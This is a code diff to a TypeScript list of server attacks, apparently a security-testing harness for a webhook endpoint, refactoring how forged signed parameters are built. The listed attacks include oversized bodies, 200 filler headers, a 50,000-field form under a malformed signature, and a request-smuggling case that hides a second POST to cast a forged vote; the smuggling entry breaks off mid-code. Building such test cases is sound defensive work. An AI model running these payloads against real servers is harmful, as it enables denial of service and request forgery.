@@ -24,8 +24,8 @@ export const serverAttacks: Attack[] = [
     title: 'a body of 2 MB',
     goal: 'overload',
     needs: 'url',
-    build: ({ target }) => [
-      postForm(target, [...forgedParameters(''), ['Filler', 'a'.repeat(2 * megabyte)]]),
+    build: ({ target, accountSid }) => [
+      postForm(target, [...forgedParameters({ text: '', accountSid }), ['Filler', 'a'.repeat(2 * megabyte)]]),
     ],
   },
   {
@@ -33,10 +33,10 @@ export const serverAttacks: Attack[] = [
     title: '200 headers',
     goal: 'overload',
     needs: 'url',
-    build: ({ target }) => [
+    build: ({ target, accountSid }) => [
       postForm(
         target,
-        forgedParameters(''),
+        forgedParameters({ text: '', accountSid }),
         Array.from({ length: 200 }, (_, index): [string, string] => [`X-Filler-${index}`, 'x']),
       ),
     ],
@@ -46,6 +46,7 @@ export const serverAttacks: Attack[] = [
     title: 'a form of 50,000 fields under a malformed signature',
     goal: 'overload',
     needs: 'url',
+    misshapen: true,
     build: ({ target }) => [
       postForm(
         target,
@@ -59,8 +60,8 @@ export const serverAttacks: Attack[] = [
     title: 'two lengths, to smuggle a second request',
     goal: 'vote',
     needs: 'url',
-    build: ({ target, text }) => {
-      const { headers, body } = postForm(target, forgedParameters(text));
+    build: ({ target, ...message }) => {
+      const { headers, body } = postForm(target, forgedParameters(message));
       const hidden = [
         `POST ${target} HTTP/1.1`,
         'Host: localhost',
